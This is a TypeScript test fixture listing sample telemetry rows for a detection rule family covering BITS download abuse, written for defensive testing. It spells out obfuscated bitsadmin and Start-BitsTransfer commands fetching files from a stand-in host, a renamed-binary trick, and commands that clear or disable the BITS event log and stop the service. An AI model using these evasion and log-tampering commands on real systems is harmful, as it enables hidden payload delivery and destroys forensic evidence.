import type { Example } from '../signal.js';

const bitsadmin = (process: string): Example => ({ process_name: 'bitsadmin.exe', process });
const script = (ScriptBlockText: string): Example => ({ ScriptBlockText });

/** PowerShell's -EncodedCommand is base64 of UTF-16, low byte first. */
function base64Utf16(text: string): string {
  return btoa(text.replace(/./gs, '$&\0'));
}

/** Rows that show each signal of the family; the tests run them. No bundle carries them. */
export const evasionExamples: Readonly<Record<string, readonly Example[]>> = {
  'hidden-quotes': [bitsadmin('bitsadmin /tr"ans"fer job https://files.example.net/a C:\\d\\a')],
  'hidden-caret': [{ process_name: 'cmd.exe', process: 'cmd /c b^its^admin /tr^ansfer job https://files.example.net/a C:\\d\\a' }],
  'hidden-substring': [{ process_name: 'cmd.exe', process: 'cmd /c "set a=xbitsadmin&& call %a:~1% /transfer job https://files.example.net/a C:\\d\\a"' }],
  'hidden-variable': [{ process_name: 'cmd.exe', process: 'cmd /v /c "set a=bitsadmin&& !a! /transfer job https://files.example.net/a C:\\d\\a"' }],
  'hidden-base64': [{ process_name: 'powershell.exe', process: `powershell -enc ${base64Utf16('Start-BitsTransfer https://files.example.net/a C:\\d\\a')}` }],
  'hidden-backtick': [script('Start-B`itsTransfer https://files.example.net/a C:\\d\\a')],
  'hidden-concatenation': [script("& ('Start-Bits'+'Transfer') https://files.example.net/a C:\\d\\a")],
  'hidden-format': [script("& ('{1}{0}' -f 'BitsTransfer','Start-') https://files.example.net/a C:\\d\\a")],
  'hidden-replace': [script("& ('Start-XTransfer'.Replace('X','Bits')) https://files.example.net/a C:\\d\\a")],
  'hidden-charcode': [script("& ([char]83+'tart-BitsTransfer') https://files.example.net/a C:\\d\\a")],
  'hidden-reverse': [script("& (-join 'refsnarTstiB-tratS'[-1..-18]) https://files.example.net/a C:\\d\\a")],
  'hidden-wildcard': [script("& (gcm St*fer) 'https://files.example.net/a' a")],
  'hidden-alias': [script('sal x Start-BitsTransfer; x https://files.example.net/a a')],
  'hidden-renamed': [{ process_name: 'svc.exe', process_path: 'C:\\Users\\Public\\svc.exe', original_file_name: 'bitsadmin.exe', process: 'svc.exe /transfer job https://files.example.net/a C:\\d\\a' }],
  'hidden-path': [bitsadmin('bitsadmin /transfer job https://files.example.net/a C:\\Users\\.\\\\Public\\x\\..\\a')],
  'hidden-slashes': [bitsadmin('bitsadmin /transfer job https:files.example.net/a C:\\d\\a')],
  'hidden-jobname': [bitsadmin('bitsadmin /transfer /Download https://files.example.net/a C:\\d\\a')],
  'hidden-whitespace': [bitsadmin('bitsadmin\t/transfer\tjob\thttps://files.example.net/a\tC:\\d\\a')],
  'tool-copied': [{ process_name: 'cmd.exe', process: 'cmd /c copy C:\\Windows\\System32\\bitsadmin.exe C:\\Users\\Public\\svc.exe' }],
  'log-cleared': [{ process_name: 'wevtutil.exe', process: 'wevtutil cl Microsoft-Windows-Bits-Client/Operational' }],
  'log-disabled': [{ process_name: 'wevtutil.exe', process: 'wevtutil sl Microsoft-Windows-Bits-Client/Operational /e:false' }],
  'service-disabled': [{ process_name: 'sc.exe', process: 'sc config bits start= disabled' }, { SourceName: 'Service Control Manager', EventCode: '7040', param1: 'Background Intelligent Transfer Service', param2: 'demand start', param3: 'disabled', param4: 'BITS' }],
  'service-stopped': [{ process_name: 'net.exe', process: 'net stop bits' }],
  'jobs-removed': [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /reset /allusers' }],
};
